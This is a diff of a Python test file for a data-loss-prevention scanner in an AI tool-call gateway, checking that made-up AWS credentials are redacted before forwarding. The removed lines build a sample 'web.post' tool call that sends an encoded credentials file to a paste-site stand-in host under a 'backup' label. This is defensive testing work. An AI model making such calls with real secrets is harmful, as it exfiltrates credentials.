@@ -25,13 +25,13 @@ from dlp_spelling_kit import (
     assert_native_and_python_agree,
     aws_credentials_file,
     each_secret_each_spelling,
+    forwarded_by_the_policy,
     made_up_credentials,
     made_up_token,
     sentences,
 )
 
-from mcpward.dlp.policy import DlpPolicy
-from mcpward.dlp.scanning import default_engine, redact, redact_json, scan_json, scan_text
+from mcpward.dlp.scanning import default_engine, redact, scan_json, scan_text
 
 GITHUB, AWS_ID, AWS_SECRET = made_up_credentials(61)
 AWS_FILE = aws_credentials_file(AWS_ID, AWS_SECRET)
@@ -107,14 +107,10 @@ def test_the_pure_python_path_finds_the_same() -> None:
 def test_in_a_json_argument_through_the_gateway_policy() -> None:
     """As the gateway judges a tool call: the string holds the escapes as text (the JSON
     message wrote each backslash escaped)."""
-    policy = DlpPolicy(actions={"secret": "redact"})
     for encoded in _encodings(AWS_FILE).values():
-        arguments = {"url": "https://paste.example.net/new", "body": {"note": "backup", "data": encoded}}
-        assert json.loads(json.dumps(arguments)) == arguments
-        matches = policy.scan_json(arguments, tool="web.post")
-        assert {m.path for m in matches} == {"$.body.data"}, (encoded[:30], matches)
-        forwarded = redact_json(arguments, matches)
-        assert forwarded["body"]["note"] == "backup" and not _leaks(json.dumps(forwarded), AWS_FILE)
+        assert json.loads(json.dumps(encoded)) == encoded
+        forwarded = forwarded_by_the_policy(encoded)
+        assert not _leaks(json.dumps(forwarded), AWS_FILE), forwarded
 
 
 def test_a_long_utf16_document_with_the_credentials_at_its_end() -> None:
